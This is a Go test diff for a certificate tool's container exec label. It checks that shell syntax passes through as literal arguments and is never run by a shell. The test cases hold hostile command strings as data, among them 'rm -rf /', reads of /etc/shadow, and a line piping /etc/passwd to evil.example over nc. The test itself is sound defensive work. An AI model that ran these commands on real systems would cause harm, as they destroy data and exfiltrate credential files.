@@ -190,3 +190,47 @@ func FuzzSplitCommand(f *testing.F) {
 		}
 	})
 }
+
+// TestExecLabelNeverUsesAShell checks that shell syntax in certdock.exec
+// reaches the container as literal argv elements: nothing is expanded,
+// substituted, piped, chained, redirected or globbed, and the command is
+// not wrapped in sh -c.
+func TestExecLabelNeverUsesAShell(t *testing.T) {
+	tests := []struct {
+		name string
+		exec string
+		want []string
+	}{
+		{name: "semicolon", exec: `nginx -s reload; rm -rf /`, want: []string{"nginx", "-s", "reload;", "rm", "-rf", "/"}},
+		{name: "and", exec: `true && touch /tmp/pwned`, want: []string{"true", "&&", "touch", "/tmp/pwned"}},
+		{name: "or", exec: `false || touch /tmp/pwned`, want: []string{"false", "||", "touch", "/tmp/pwned"}},
+		{name: "command substitution", exec: `echo $(cat /etc/shadow)`, want: []string{"echo", "$(cat", "/etc/shadow)"}},
+		{name: "backticks", exec: "echo `id`", want: []string{"echo", "`id`"}},
+		{name: "pipe", exec: `cat /etc/passwd | nc evil.example 80`, want: []string{"cat", "/etc/passwd", "|", "nc", "evil.example", "80"}},
+		{name: "pipe without spaces", exec: `a|b`, want: []string{"a|b"}},
+		{name: "redirections", exec: `echo x >/tmp/f 2>&1 </dev/null`, want: []string{"echo", "x", ">/tmp/f", "2>&1", "</dev/null"}},
+		{name: "background", exec: `sleep 100 &`, want: []string{"sleep", "100", "&"}},
+		{name: "variables", exec: `echo $HOME ${PATH} "$USER"`, want: []string{"echo", "$HOME", "${PATH}", "$USER"}},
+		{name: "glob and tilde", exec: `ls * ~ /etc/*.conf`, want: []string{"ls", "*", "~", "/etc/*.conf"}},
+		{name: "quoted substitution stays literal", exec: `sh -c "echo \$(id)"`, want: []string{"sh", "-c", "echo $(id)"}},
+		{name: "subshell and braces", exec: `(reboot) {a,b}`, want: []string{"(reboot)", "{a,b}"}},
+		{name: "comment", exec: `reload # not a comment`, want: []string{"reload", "#", "not", "a", "comment"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := SplitCommand(tt.exec)
+			if err != nil || !slices.Equal(got, tt.want) {
+				t.Fatalf("SplitCommand(%q) = %q, %v; want %q", tt.exec, got, err, tt.want)
+			}
+			w := Workload{Kind: Container, Name: "web", Labels: map[string]string{"certdock.domains": "a.example.com", "certdock.exec": tt.exec}}
+			specs, problems := Parse("certdock", w, nil)
+			if len(problems) != 0 || len(specs) != 1 || len(specs[0].Actions) != 1 {
+				t.Fatalf("Parse = %+v, %v; want one spec with one action", specs, problems)
+			}
+			a := specs[0].Actions[0]
+			if a.Kind != cert.Exec || a.Target != "web" || !slices.Equal(a.Command, tt.want) {
+				t.Errorf("action %+v, want exec of %q in web", a, tt.want)
+			}
+		})
+	}
+}
